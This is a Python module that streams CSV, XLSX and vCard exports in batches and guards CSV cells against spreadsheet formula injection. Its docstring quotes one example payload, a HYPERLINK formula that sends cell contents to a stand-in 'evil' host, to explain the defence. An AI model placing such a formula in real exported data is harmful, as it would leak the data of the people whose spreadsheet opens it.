"""Writing rows as CSV and XLSX, and contact records as vCards, a chunk at a time.

Each format has a generator of pieces (for streamed responses) and a ``write_*`` function that
writes them to a file. Neither holds more than a batch of rows in memory.

CSV is what Excel opens with a double click: UTF-8 with a byte order mark (without it Excel
reads Cyrillic as mojibake; it also keeps Excel from taking a file that starts with "ID" for a
SYLK file), commas, CRLF line ends, quotes only where needed.

Formula injection (OWASP "CSV Injection"): a spreadsheet runs a cell that starts with ``=``,
``+``, ``-`` or ``@`` (and tab or carriage return, which some strip first) as a formula, so a
name such as ``=HYPERLINK("http://evil/?"&A1)`` would run on the exporter's machine. In CSV
every such cell gets a leading apostrophe, whatever the column: E.164 phone numbers
("+359…") too, which also keeps Excel from reading them as numbers and dropping the "+" and
the precision. To read such a CSV back, drop one leading apostrophe that comes before one of
those characters. XLSX needs no such mark: its cells are typed strings (``inlineStr``), which
Excel never evaluates, so they hold the text as it is.
"""

import csv
import io
import re
import zipfile
from collections.abc import Iterable, Iterator
from typing import BinaryIO, TextIO

from django.utils.translation import gettext as _

from svrazka.exports.vcard import card_text
from svrazka.imports.records import ContactRecord

FORMULA_TRIGGERS = frozenset("=+-@\t\r")
BATCH_ROWS = 1000  # rows per piece of a stream

# Excel's sheet: 1,048,576 rows, the first of them the header.
EXCEL_MAX_ROWS = 1_048_576
XLSX_MAX_DATA_ROWS = EXCEL_MAX_ROWS - 1
# A zip entry written as a stream must stay under 2 GiB unless it is ZIP64, which some Excel
# versions "repair" on opening; a sheet that big is no use in Excel anyway.
XLSX_MAX_SHEET_BYTES = 2**31 - 1 - 2**20


class ExportTooLarge(ValueError):
    """The rows do not fit the format (more rows than an Excel sheet holds)."""


class Counted:
    """An iterable that counts what passes through it."""

    def __init__(self, items: Iterable):
        self.items = items
        self.count = 0

    def __iter__(self):
        for item in self.items:
            self.count += 1
            yield item


def safe_cell(value: str) -> str:
    """The cell as text no spreadsheet takes for a formula (see the module's docstring)."""
    return "'" + value if value[:1] in FORMULA_TRIGGERS else value


# --- CSV -------------------------------------------------------------------------------------


def csv_pieces(rows: Iterable[list[str]], header: list[str]) -> Iterator[str]:
    """The CSV text, a batch of rows at a time; the first piece is the byte order mark."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    triggers = FORMULA_TRIGGERS
    writer.writerow([safe_cell(h) for h in header])
    yield "\ufeff" + buffer.getvalue()
    buffer.seek(0)
    buffer.truncate()
    pending = 0
    for row in rows:
        writer.writerow([("'" + v) if v[:1] in triggers else v for v in row])
        pending += 1
        if pending == BATCH_ROWS:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
            pending = 0
    if pending:
        yield buffer.getvalue()


def write_csv(rows: Iterable[list[str]], header: list[str], out: TextIO) -> int:
    """Write the rows to a text stream (open it with ``newline=""``); returns how many."""
    counted = Counted(rows)
    for piece in csv_pieces(counted, header):
        out.write(piece)
    return counted.count


# --- XLSX ------------------------------------------------------------------------------------
# An XLSX file is a zip of XML parts. openpyxl's write-only mode takes ~7x longer for the same
# rows (bench/measure_exports.py), so the sheet is written here: inline strings (no shared
# strings table to keep in memory), the header bold and frozen, one deflated zip entry
# streamed a batch at a time.

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/styles.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
    '<Override PartName="/docProps/app.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.extended-properties+xml"/>'
    "</Types>"
)
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="xl/workbook.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/extended-properties" Target="docProps/app.xml"/>'
    "</Relationships>"
)
_APP = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
    "<Application>Svrazka</Application></Properties>"
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="{name}" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/styles" Target="styles.xml"/>'
    "</Relationships>"
)
# Style 0: plain; style 1: bold (the header).
_STYLES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<fonts count="2"><font><sz val="11"/><name val="Calibri"/></font>'
    '<font><b/><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="2"><fill><patternFill patternType="none"/></fill>'
    '<fill><patternFill patternType="gray125"/></fill></fills>'
    '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="0" fontId="1" fillId="0" borderId="0" xfId="0" applyFont="1"/></cellXfs>'
    '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
    "</styleSheet>"
)
_SHEET_START = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<sheetViews><sheetView workbookViewId="0">'
    '<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>'
    "</sheetView></sheetViews>"
    '<sheetFormatPr defaultRowHeight="15"/>'
    "{cols}<sheetData>"
)
_SHEET_END = "</sheetData></worksheet>"

# What XML text cannot hold as it is: markup characters, and control characters (which XML 1.0
# does not allow at all; they are dropped).
_XML_SPECIAL = re.compile("[&<>\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
_XML_ESCAPES = {"&": "&amp;", "<": "&lt;", ">": "&gt;"}
_SHEET_NAME_BAD = re.compile(r"[\[\]:*?/\\]")


def _xml_text(value: str) -> str:
    if _XML_SPECIAL.search(value):
        value = _XML_SPECIAL.sub(lambda m: _XML_ESCAPES.get(m.group(), ""), value)
    return value


def _column_letters(n: int) -> list[str]:
    letters = []
    for index in range(1, n + 1):
        name = ""
        while index:
            index, rest = divmod(index - 1, 26)
            name = chr(65 + rest) + name
        letters.append(name)
    return letters


class _Sink:
    """A write-only stream that hands out what was written since the last ``take``."""

    def __init__(self):
        self.parts: list[bytes] = []

    def write(self, data) -> int:
        self.parts.append(bytes(data))
        return len(data)

    def flush(self) -> None:
        pass

    def take(self) -> bytes:
        data = b"".join(self.parts)
        self.parts.clear()
        return data


def _sheet_cells(letters: list[str], numbers: frozenset[int], row: list[str], n: int) -> str:
    cells = []
    for index, value in enumerate(row):
        if not value:
            continue
        ref = f"{letters[index]}{n}"
        if index in numbers and value.isdigit():
            cells.append(f'<c r="{ref}"><v>{value}</v></c>')
        elif value[0] in " \t\n" or value[-1] in " \t\n":
            cells.append(
                f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">'
                f"{_xml_text(value)}</t></is></c>"
            )
        else:
            cells.append(f'<c r="{ref}" t="inlineStr"><is><t>{_xml_text(value)}</t></is></c>')
    return f'<row r="{n}">{"".join(cells)}</row>'


def xlsx_pieces(
    rows: Iterable[list[str]],
    header: list[str],
    *,
    number_columns: Iterable[int] = (0,),
    sheet_name: str = "Svrazka",
    compresslevel: int = 1,
) -> Iterator[bytes]:
    """The XLSX file, a batch of rows at a time. Cells of ``number_columns`` that are all
    digits (the id) are written as numbers, every other cell as text.

    Raises ExportTooLarge when the rows pass Excel's 1,048,575 (check the count first where
    you can: by then part of the file is out)."""
    letters = _column_letters(max(len(header), 1))
    numbers = frozenset(number_columns)
    name = _xml_text(_SHEET_NAME_BAD.sub(" ", sheet_name))[:31].replace('"', "&quot;")
    sink = _Sink()
    with zipfile.ZipFile(
        sink, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=compresslevel
    ) as zf:
        zf.writestr("[Content_Types].xml", _CONTENT_TYPES)
        zf.writestr("_rels/.rels", _ROOT_RELS)
        zf.writestr("docProps/app.xml", _APP)
        zf.writestr("xl/workbook.xml", _WORKBOOK.format(name=name))
        zf.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        zf.writestr("xl/styles.xml", _STYLES)
        yield sink.take()
        with zf.open("xl/worksheets/sheet1.xml", "w") as sheet:
            cols = "".join(
                f'<col min="{i}" max="{i}" width="{10 if i == 1 else 18}" customWidth="1"/>'
                for i in range(1, len(letters) + 1)
            )
            head = "".join(
                f'<c r="{letters[i]}1" s="1" t="inlineStr"><is><t>{_xml_text(h)}</t></is></c>'
                for i, h in enumerate(header)
            )
            sheet.write((_SHEET_START.format(cols=f"<cols>{cols}</cols>")).encode())
            sheet.write(f'<row r="1">{head}</row>'.encode())
            written = 0
            batch: list[str] = []
            n = 1
            for row in rows:
                n += 1
                if n > EXCEL_MAX_ROWS:
                    raise ExportTooLarge(too_many_rows_message())
                batch.append(_sheet_cells(letters, numbers, row, n))
                if len(batch) == BATCH_ROWS:
                    data = "".join(batch).encode("utf-8", "replace")
                    written += len(data)
                    if written > XLSX_MAX_SHEET_BYTES:
                        raise ExportTooLarge(_("The data is too large for one XLSX file."))
                    sheet.write(data)
                    batch.clear()
                    yield sink.take()
            sheet.write(("".join(batch) + _SHEET_END).encode("utf-8", "replace"))
    yield sink.take()


def too_many_rows_message() -> str:
    return _(
        "An Excel sheet holds at most %(limit)s rows. Narrow the list with filters, "
        "or export it as CSV."
    ) % {"limit": f"{XLSX_MAX_DATA_ROWS:,}"}


def write_xlsx(
    rows: Iterable[list[str]],
    header: list[str],
    out: str | BinaryIO,
    *,
    number_columns: Iterable[int] = (0,),
) -> int:
    """Write the rows as an XLSX file to a path or a binary stream; returns how many."""
    counted = Counted(rows)
    if isinstance(out, str):
        with open(out, "wb") as f:
            for piece in xlsx_pieces(counted, header, number_columns=number_columns):
                f.write(piece)
    else:
        for piece in xlsx_pieces(counted, header, number_columns=number_columns):
            out.write(piece)
    return counted.count


# --- vCard -----------------------------------------------------------------------------------


def vcard_pieces(
    records: Iterable[ContactRecord | tuple[ContactRecord, str | None]], version: str
) -> Iterator[str]:
    """The cards one after another, a batch at a time. ``records``: ContactRecords, or
    (record, uid) pairs."""
    batch: list[str] = []
    for item in records:
        record, uid = item if isinstance(item, tuple) else (item, None)
        batch.append(card_text(record, version, uid))
        if len(batch) == BATCH_ROWS:
            yield "".join(batch)
            batch.clear()
    if batch:
        yield "".join(batch)


def write_vcards(
    records: Iterable[ContactRecord | tuple[ContactRecord, str | None]],
    version: str,
    out: TextIO,
) -> int:
    """Write vCards (``version`` "4.0" or "3.0") to a text stream (open it with
    ``newline=""``: cards end their lines with CRLF); returns how many."""
    counted = Counted(records)
    for piece in vcard_pieces(counted, version):
        out.write(piece)
    return counted.count
